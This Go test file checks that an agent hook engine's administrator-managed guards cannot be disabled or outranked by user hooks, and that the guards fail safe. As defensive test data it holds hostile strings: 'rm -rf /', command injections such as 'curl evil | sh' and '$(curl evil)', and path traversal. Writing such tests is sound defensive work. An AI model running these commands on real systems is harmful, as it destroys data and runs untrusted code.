package engine

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hermes-hooks/hermes/hookspec"
	"github.com/hermes-hooks/hermes/internal/gatewayhook"
	"github.com/hermes-hooks/hermes/internal/testutil"
)

// managedHomes makes a managed home whose config.yaml is managedCfg and a user home with
// the given files; it returns both.
func managedHomes(t *testing.T, managedCfg string, user map[string]string) (managedHome, home string) {
	t.Helper()
	managedHome, home = t.TempDir(), t.TempDir()
	writeFile(t, filepath.Join(managedHome, "config.yaml"), managedCfg)
	writeFile(t, filepath.Join(managedHome, "guard.sh"), "#!/bin/sh\nif grep -q 'rm -rf' ; then echo '{\"action\":\"block\",\"message\":\"managed: no rm -rf\"}'; fi\n")
	os.Chmod(filepath.Join(managedHome, "guard.sh"), 0o755)
	for name, body := range user {
		p := filepath.Join(home, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		writeFile(t, p, body)
		if strings.HasSuffix(name, ".sh") {
			os.Chmod(p, 0o755)
		}
	}
	return managedHome, home
}

func newManagedEngine(t *testing.T, managedHome, home string) (*Engine, *testutil.Buffer) {
	t.Helper()
	logs := &testutil.Buffer{}
	e, err := New(context.Background(), Options{Home: home, ManagedHome: managedHome, AcceptHooks: true, Logger: newTestLogger(logs)})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { e.Close(context.Background()) })
	return e, logs
}

var rmRF = hookspec.ToolCall{Name: "terminal", Args: map[string]any{"command": "rm -rf /"}}

// The user's home can neither switch the managed guard off nor outrank its block: a plugin
// and a shell hook that approve, a rewrite, a policy: of its own and a disabled list.
func TestManagedGuardCannotBeDisabledOrOutranked(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{
		"config.yaml": `policy: {managed_hooks_only: false}
plugins: {disabled: [guard, managed]}
hooks_consent: pinned
hooks:
  pre_tool_call:
    - command: ./approve.sh
`,
		"approve.sh": "#!/bin/sh\necho '{\"action\":\"approve\"}'\n",
	})
	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  pre_tool_call:\n    - command: "+filepath.Join(mh, "guard.sh")+"\n")
	for name, body := range pluginFiles("yes", "", one("pre_tool_call", `return {action = "approve"}`)) {
		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
		writeFile(t, filepath.Join(home, name), body)
	}
	t.Chdir(home)
	e, _ := newManagedEngine(t, mh, home)
	b := e.DecideTool(context.Background(), rmRF).Block
	if b == nil || b.Message != "managed: no rm -rf" {
		t.Fatalf("got %+v, want the managed guard's block", b)
	}
	hooks := e.ShellHooks()
	if len(hooks) != 2 || hooks[0].Layer != LayerManaged || !hooks[0].Registered || hooks[0].ApprovedBy != LayerManaged || hooks[1].Layer != LayerUser {
		t.Fatalf("shell hooks %+v: want the managed one first, registered without consent, then the user's", hooks)
	}
	if !hasWarning(e.Warnings(), "policy: is read only from the managed home") {
		t.Errorf("no warning that the user's policy: is ignored: %v", e.Warnings())
	}
	if e.DecideTool(context.Background(), hookspec.ToolCall{Name: "terminal", Args: map[string]any{"command": "ls"}}).Block != nil {
		t.Error("a harmless call was blocked")
	}
}

// A transform of the managed home comes first, so the user's cannot replace its answer.
func TestManagedHookRunsBeforeUserPlugins(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFile(t, filepath.Join(mh, "t.sh"), "#!/bin/sh\necho '{\"result\":\"managed\"}'\n")
	os.Chmod(filepath.Join(mh, "t.sh"), 0o755)
	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  transform_tool_result:\n    - command: "+filepath.Join(mh, "t.sh")+"\n")
	for name, body := range pluginFiles("user", "", one("transform_tool_result", `return "user"`)) {
		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
		writeFile(t, filepath.Join(home, name), body)
	}
	e, _ := newManagedEngine(t, mh, home)
	rep := e.Fire(context.Background(), hookspec.TransformToolResult, map[string]any{"tool_name": "terminal", "result": "x"})
	if len(rep.Hooks) != 2 || rep.Hooks[0].Source != hookspec.SourceShell {
		t.Fatalf("hooks ran %+v, want the managed shell hook first", rep.Hooks)
	}
	if text, _ := rep.Text(); text != "managed" {
		t.Errorf("transformed to %q, want the managed answer", text)
	}
}

func TestManagedHooksOnlyRefusesUserHooks(t *testing.T) {
	mh, home := managedHomes(t, "policy:\n  managed_hooks_only: true\n", map[string]string{
		"config.yaml": "hooks:\n  pre_tool_call:\n    - command: ./mine.sh\n",
		"mine.sh":     "#!/bin/sh\necho '{\"action\":\"block\",\"message\":\"mine\"}'\n",
	})
	for name, body := range pluginFiles("p", "", one("pre_tool_call", `return {action = "block", message = "plugin"}`)) {
		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
		writeFile(t, filepath.Join(home, name), body)
	}
	t.Chdir(home)
	e, logs := newManagedEngine(t, mh, home)
	if b := e.DecideTool(context.Background(), rmRF).Block; b != nil {
		t.Fatalf("a user hook ran under managed_hooks_only: %+v", b)
	}
	s := e.ShellHooks()
	if len(s) != 1 || s[0].Registered || !strings.Contains(s[0].Refused, "managed_hooks_only: true") {
		t.Fatalf("user hook %+v: want refused, saying why", s)
	}
	if len(e.Plugins()) != 0 || !hasWarning(e.Warnings(), "plugins not loaded: refused by the managed policy") {
		t.Errorf("plugins %v, warnings %v: want none loaded, with a warning", e.Plugins(), e.Warnings())
	}
	if !strings.Contains(logs.String(), "not registered: refused by the managed policy") {
		t.Errorf("the log does not say the hook was refused:\n%s", logs)
	}
	if !e.Policy().ManagedHooksOnly {
		t.Error("Policy() does not report managed_hooks_only")
	}
	os.MkdirAll(filepath.Join(home, "hooks", "g"), 0o755)
	writeFile(t, filepath.Join(home, "hooks", "g", "HOOK.yaml"), "events: [agent:end]\n")
	gw, _, warns, err := e.loadGatewayHooks(context.Background(), gatewayhook.Options{}, nil)
	if err != nil || len(gw) != 0 || !hasWarning(warns, "gateway hooks not loaded: refused by the managed policy") {
		t.Errorf("gateway hooks %v, warnings %v, err %v: want none loaded, with a warning", gw, warns, err)
	}
}

func TestManagedAllowedCommandsAndURLs(t *testing.T) {
	mh, home := managedHomes(t, `policy:
  allowed_commands: ["./ok-*.sh"]
  allowed_http_urls: ["https://hooks.example.com/*"]
`, map[string]string{
		"config.yaml": `hooks:
  pre_tool_call:
    - command: ./ok-1.sh
    - command: ./other.sh
    - type: http
      url: https://hooks.example.com/guard
    - type: http
      url: https://evil.example.net/guard
`,
		"ok-1.sh": "#!/bin/sh\n", "other.sh": "#!/bin/sh\n",
	})
	t.Chdir(home)
	e, _ := newManagedEngine(t, mh, home)
	got := map[string]string{}
	for _, s := range e.ShellHooks() {
		got[s.Command] = s.Refused
	}
	for cmd, refused := range map[string]string{"./ok-1.sh": "", "./other.sh": "allowed_commands", "https://hooks.example.com/guard": "", "https://evil.example.net/guard": "allowed_http_urls"} {
		if (refused == "") != (got[cmd] == "") || !strings.Contains(got[cmd], refused) {
			t.Errorf("%s: refused %q, want %q", cmd, got[cmd], refused)
		}
	}
}

// A managed home that cannot be read is not an empty one: the engine does not start, and a
// reload keeps the guard that runs.
func TestManagedHomeCorruptFailsSafe(t *testing.T) {
	for _, bad := range []string{"hooks: [unclosed\n", "policy:\n  allowed_http_urls: https://x/*\n", "policy:\n  managed_hooks_olny: true\n"} {
		mh, home := managedHomes(t, bad, map[string]string{"config.yaml": ""})
		_, err := New(context.Background(), Options{Home: home, ManagedHome: mh})
		if err == nil || !strings.Contains(err.Error(), "managed home") || !strings.Contains(err.Error(), filepath.Join(mh, "config.yaml")) {
			t.Errorf("managed config %q: New error %v, want one naming the managed file", bad, err)
		}
	}
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  pre_tool_call:\n    - command: "+filepath.Join(mh, "guard.sh")+"\n")
	e, _ := newManagedEngine(t, mh, home)
	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks: [unclosed\n")
	if err := e.Reload(context.Background()); err == nil || !strings.Contains(err.Error(), "managed home") {
		t.Fatalf("Reload = %v, want the managed home's error", err)
	}
	if b := e.DecideTool(context.Background(), rmRF).Block; b == nil {
		t.Fatal("after a failed reload the managed guard no longer runs")
	}
}

func hasWarning(ws []hookspec.Warning, sub string) bool {
	for _, w := range ws {
		if strings.Contains(w.String(), sub) {
			return true
		}
	}
	return false
}

func TestMatchCommand(t *testing.T) {
	cases := []struct {
		pattern, cmd string
		want         bool
	}{
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/guard.sh --strict", true},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/../../../bin/evil", false},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/..", false},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh; curl evil | sh", false},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh $(curl evil)", false},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh `id`", false},
		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh\nrm -rf /", false},
		{"~/.hermes/agent-hooks/*", "/bin/evil ~/.hermes/agent-hooks/x.sh", false},
		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/check.py", true},
		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/a.py && evil.py", false},
		{"/opt/hooks/guard.sh", "/opt/hooks/guard.sh", true},
		{"/opt/hooks/guard.sh | logger", "/opt/hooks/guard.sh | logger", true}, // written out by the administrator
		{"/opt/hooks/x..y/*", "/opt/hooks/x..y/a", true},
	}
	for _, c := range cases {
		if got := matchCommand(c.pattern, c.cmd); got != c.want {
			t.Errorf("matchCommand(%q, %q) = %v, want %v", c.pattern, c.cmd, got, c.want)
		}
	}
}

// gatewayHookFiles are the files of a gateway hook on events whose handler has body.
func gatewayHookFiles(dir, name, events, body string) map[string]string {
	return map[string]string{"hooks/" + dir + "/HOOK.yaml": "name: " + name + "\nevents: [" + events + "]\n",
		"hooks/" + dir + "/handler.lua": "function handle(event, ctx)\n" + body + "\nend\n"}
}

// loadGateway loads e's gateway hooks as package gateway does, returning their infos by
// directory and the warnings.
func loadGateway(t *testing.T, e *Engine, running []gatewayhook.Hook) ([]gatewayhook.Hook, map[string]*hookspec.GatewayHookInfo, []hookspec.Warning, error) {
	t.Helper()
	hooks, infos, warns, err := e.LoadGatewayHooks(context.Background(), gatewayhook.Options{}, running)
	byDir := map[string]*hookspec.GatewayHookInfo{}
	for _, info := range infos {
		byDir[info.Dir] = info
	}
	t.Cleanup(func() {
		for _, h := range hooks {
			if !slices.Contains(running, h) {
				h.Close()
			}
		}
	})
	return hooks, byDir, warns, err
}

// The managed home's gateway hooks load first, need no consent, and the user's home can
// neither disable them (gateway_hooks: {disabled: [...]}) nor replace one with a hook of the
// same name; their store keys are their own.
func TestManagedGatewayHooks(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": "gateway_hooks: {disabled: [audit]}\n"})
	writeFiles(t, mh, gatewayHookFiles("audit", "audit", "agent:start", `return "managed"`))
	writeFiles(t, home, gatewayHookFiles("mine", "audit", "agent:start", `return "user"`))
	writeFiles(t, home, gatewayHookFiles("greeter", "greeter", "agent:start", `return "hello"`))
	e, _ := newManagedEngine(t, mh, home)
	hooks, infos, warns, err := loadGateway(t, e, nil)
	if err != nil {
		t.Fatal(err)
	}
	managed, mine, greeter := infos[filepath.Join(mh, "hooks", "audit")], infos[filepath.Join(home, "hooks", "mine")], infos[filepath.Join(home, "hooks", "greeter")]
	if managed == nil || managed.Status != "loaded" || managed.Layer != LayerManaged || !managed.Enabled {
		t.Errorf("the managed hook: %+v, want loaded, enabled, managed", managed)
	}
	if mine == nil || mine.Status != "error" || !strings.Contains(mine.Error, `"audit" is the name of the managed gateway hook in `+filepath.Join(mh, "hooks", "audit")) {
		t.Errorf("the user's hook of the managed name: %+v, want not loaded", mine)
	}
	if greeter == nil || greeter.Status != "loaded" || greeter.Layer != LayerUser {
		t.Errorf("the user's other hook: %+v", greeter)
	}
	if !hasWarning(warns, "which the user's home cannot replace") {
		t.Errorf("warnings %v, want the refused name", warns)
	}
	if len(hooks) != 2 || hooks[0].Info().Name != "audit" || hooks[0].Info().Layer != LayerManaged {
		t.Fatalf("hooks %v, want the managed one first", hooks)
	}
	if got, status, err := hooks[0].Call(context.Background(), "agent:start", map[string]any{}); got != "managed" || status != hookspec.StatusOK || err != nil {
		t.Errorf("the managed hook answered %v %v %v", got, status, err)
	}
	if gatewayNamespace(LayerManaged, filepath.Join(mh, "hooks", "audit")) == gatewayNamespace(LayerUser, filepath.Join(home, "hooks", "audit")) {
		t.Error("a managed gateway hook shares its store namespace with the user's hook of its directory name")
	}
}

// A managed gateway hook that fails to load is a hook missing: the load fails. On a reload,
// a broken new version keeps the one that runs (with a warning).
func TestManagedGatewayHookBrokenFailsSafe(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, mh, gatewayHookFiles("audit", "audit", "agent:start", `return "managed"`))
	e, _ := newManagedEngine(t, mh, home)
	running, _, _, err := loadGateway(t, e, nil)
	if err != nil {
		t.Fatal(err)
	}
	writeFiles(t, mh, map[string]string{"hooks/audit/handler.lua": "function handle(event, ctx"})
	if _, _, _, err := loadGateway(t, e, nil); err == nil || !strings.Contains(err.Error(), "managed home: the gateway hook in "+filepath.Join(mh, "hooks", "audit")+" failed to load") {
		t.Errorf("a fresh load: %v, want the broken managed hook named", err)
	}
	hooks, infos, warns, err := loadGateway(t, e, running)
	if err != nil || len(hooks) != 1 || hooks[0] != running[0] || infos[filepath.Join(mh, "hooks", "audit")].Status != "loaded" {
		t.Errorf("a reload over the running hook: %v %v %v, want the running one kept", hooks, infos, err)
	}
	if !hasWarning(warns, "failed to reload") {
		t.Errorf("warnings %v, want the failed reload", warns)
	}
}

// writeFiles writes files (paths relative to dir) under dir.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755)
		writeFile(t, filepath.Join(dir, name), body)
	}
}

const managedLuaGuard = `if kw.args.command:find("rm -rf", 1, true) then return {action = "block", message = "managed lua: no rm -rf"} end`

// A Lua guard of the managed home runs before every hook of the user's home, whatever
// their priority, and the user's config.yaml cannot disable it.
func TestManagedPluginGuardCannotBeDisabledOrOutranked(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{
		"config.yaml": "plugins: {disabled: [guard]}\nhooks:\n  pre_tool_call:\n    - command: ./approve.sh\n",
		"approve.sh":  "#!/bin/sh\necho '{\"action\":\"approve\"}'\n",
	})
	writeFiles(t, mh, pluginFiles("guard", "", one("pre_tool_call", managedLuaGuard)))
	writeFiles(t, home, pluginFiles("yes", "priority: 1000\n", one("pre_tool_call", `return {action = "approve"}`)))
	writeFiles(t, home, pluginFiles("rewrite", "priority: 999\n", one("pre_tool_call", `return {action = "modify", args = {command = "echo hi"}}`)))
	t.Chdir(home)
	e, _ := newManagedEngine(t, mh, home)
	b := e.DecideTool(context.Background(), rmRF).Block
	if b == nil || b.Message != "managed lua: no rm -rf" || b.Hook != "guard" {
		t.Fatalf("got %+v, want the managed plugin's block", b)
	}
	ps := e.Plugins()
	if len(ps) != 3 || ps[0].Name != "guard" || ps[0].Layer != LayerManaged || ps[0].Status != "loaded" || ps[1].Layer != LayerUser {
		t.Fatalf("plugins %+v: want the managed guard loaded, listed first", ps)
	}
	rep := e.Fire(context.Background(), hookspec.PreToolCall, map[string]any{"tool_name": "terminal", "args": map[string]any{"command": "ls"}})
	if len(rep.Hooks) != 4 || rep.Hooks[0].Name != "guard" || rep.Hooks[3].Source != hookspec.SourceShell {
		t.Errorf("hooks ran %+v, want the managed guard first, the user's shell hook last", rep.Hooks)
	}
}

// A managed plugin's transform comes first, so a user's plugin of higher priority cannot
// replace its answer; managed plugins run among themselves by priority.
func TestManagedPluginRunsFirst(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, mh, pluginFiles("low", "", one("transform_tool_result", `return "managed low"`)))
	writeFiles(t, mh, pluginFiles("high", "priority: 5\n", one("transform_tool_result", `return "managed high"`)))
	writeFiles(t, home, pluginFiles("user", "priority: 1000\n", one("transform_tool_result", `return "user"`)))
	e, _ := newManagedEngine(t, mh, home)
	rep := e.Fire(context.Background(), hookspec.TransformToolResult, map[string]any{"tool_name": "terminal", "result": "x"})
	var names []string
	for _, h := range rep.Hooks {
		names = append(names, h.Name)
	}
	if strings.Join(names, ",") != "high,low,user" {
		t.Errorf("ran %v, want high,low,user", names)
	}
	if text, _ := rep.Text(); text != "managed high" {
		t.Errorf("transformed to %q, want the managed answer", text)
	}
}

// A plugin of the user's home that declares a managed plugin's name is not loaded, on a
// start and on a reload that adds the managed one, with a warning naming both directories.
func TestManagedPluginNameCannotBeTaken(t *testing.T) {
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, mh, pluginFiles("guard", "", one("pre_tool_call", managedLuaGuard)))
	writeFiles(t, home, map[string]string{
		"plugins/mine/plugin.yaml":  "name: guard\n",
		"plugins/mine/handler.lua":  one("pre_tool_call", `return {action = "approve"}`),
		"plugins/other/plugin.yaml": "name: other\n",
		"plugins/other/handler.lua": one("pre_tool_call", `return {action = "approve"}`),
	})
	mine, guard := filepath.Join(home, "plugins", "mine"), filepath.Join(mh, "plugins", "guard")
	check := func(when string, e *Engine) {
		t.Helper()
		want := "the plugin in " + mine + " is not loaded: its name \"guard\" is the name of the managed plugin in " + guard
		if !hasWarning(e.Warnings(), want) {
			t.Errorf("%s: warnings %v, want %q", when, e.Warnings(), want)
		}
		for _, p := range e.Plugins() {
			if p.Dir == mine && p.Status != "error" {
				t.Errorf("%s: the user's plugin named guard is %s", when, p.Status)
			}
		}
		if b := e.DecideTool(context.Background(), rmRF).Block; b == nil || b.Message != "managed lua: no rm -rf" {
			t.Errorf("%s: got %+v, want the managed plugin's block", when, b)
		}
	}
	e, _ := newManagedEngine(t, mh, home)
	check("start", e)

	mh2, home2 := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, home2, map[string]string{"plugins/mine/plugin.yaml": "name: guard\n", "plugins/mine/handler.lua": one("pre_tool_call", `return {action = "approve"}`)})
	e2, _ := newManagedEngine(t, mh2, home2)
	if ps := e2.Plugins(); len(ps) != 1 || ps[0].Status != "loaded" {
		t.Fatalf("before the managed guard: %+v", ps)
	}
	writeFiles(t, mh2, pluginFiles("guard", "", one("pre_tool_call", managedLuaGuard)))
	if err := e2.Reload(context.Background()); err != nil {
		t.Fatal(err)
	}
	mine, guard = filepath.Join(home2, "plugins", "mine"), filepath.Join(mh2, "plugins", "guard")
	check("reload", e2)
}

// A managed plugin keeps its state apart from the user's plugin in a directory of the same
// name: the user's reads, lists and deletes none of it.
func TestManagedPluginStoreIsItsOwn(t *testing.T) {
	ctx := context.Background()
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, mh, pluginFiles("victim", "", victim))
	writeFiles(t, home, map[string]string{"plugins/victim/plugin.yaml": "name: snoop\n", "plugins/victim/handler.lua": evil})
	e, _ := newManagedEngine(t, mh, home)
	if c := e.DecideTurn(ctx, hookspec.LLMTurn{}).Context; !strings.Contains(c, "evil: get=nil keys=0 delete=false") {
		t.Errorf("the user's plugin saw %q", c)
	}
	b, err := e.currentBackend(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	ns := pluginNamespace(LayerManaged, filepath.Join(mh, "plugins", "victim"))
	if ns == pluginNamespace(LayerUser, filepath.Join(home, "plugins", "victim")) {
		t.Fatalf("one namespace %q for both", ns)
	}
	if v, ok, err := b.Get(ctx, ns, "secret"); string(v) != `"s3cret"` || !ok || err != nil {
		t.Errorf("the managed plugin's secret: %s %v %v", v, ok, err)
	}
}

// A managed plugin that fails to load is a guard missing: the engine does not start. On a
// reload, a broken new version keeps the one that runs, and a broken new plugin fails the
// reload, keeping the set that runs.
func TestManagedPluginBrokenFailsSafe(t *testing.T) {
	ctx := context.Background()
	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
	writeFiles(t, mh, pluginFiles("broken", "", "function register(ctx"))
	_, err := New(ctx, Options{Home: home, ManagedHome: mh})
	if err == nil || !strings.Contains(err.Error(), "managed home: the plugin in "+filepath.Join(mh, "plugins", "broken")+" failed to load") {
		t.Fatalf("New error %v, want the broken managed plugin named", err)
	}
	os.RemoveAll(filepath.Join(mh, "plugins", "broken"))
	writeFiles(t, mh, pluginFiles("guard", "", one("pre_tool_call", managedLuaGuard)))
	e, _ := newManagedEngine(t, mh, home)
	writeFiles(t, mh, map[string]string{"plugins/guard/handler.lua": "function register(ctx"})
	if err := e.Reload(ctx); err != nil {
		t.Fatal(err)
	}
	if !hasWarning(e.Warnings(), "failed to reload") {
		t.Errorf("warnings %v, want the failed reload", e.Warnings())
	}
	if b := e.DecideTool(ctx, rmRF).Block; b == nil || b.Message != "managed lua: no rm -rf" {
		t.Errorf("after a broken edit: %+v, want the running guard's block", b)
	}
	writeFiles(t, mh, pluginFiles("broken", "", "function register(ctx"))
	if err := e.Reload(ctx); err == nil || !strings.Contains(err.Error(), "failed to load") {
		t.Errorf("Reload = %v, want the broken managed plugin's error", err)
	}
	if b := e.DecideTool(ctx, rmRF).Block; b == nil {
		t.Error("after a failed reload the managed guard no longer runs")
	}
}

// A process whose managed home was moved away from the system's, while the system's has a
// config.yaml, says so at every load.
func TestManagedHomeRelocatedIsWarned(t *testing.T) {
	sys, other, home := t.TempDir(), t.TempDir(), t.TempDir()
	writeFile(t, filepath.Join(sys, "config.yaml"), "policy: {managed_hooks_only: true}\n")
	saved := systemManagedHome
	systemManagedHome = sys
	defer func() { systemManagedHome = saved }()
	e, _ := newManagedEngine(t, other, home)
	if !hasWarning(e.Warnings(), "this managed home is not used: the managed home is "+other) {
		t.Errorf("warnings %v", e.Warnings())
	}
	e2, _ := newManagedEngine(t, sys, home)
	if hasWarning(e2.Warnings(), "is not used") {
		t.Errorf("the system's own managed home was warned about: %v", e2.Warnings())
	}
}
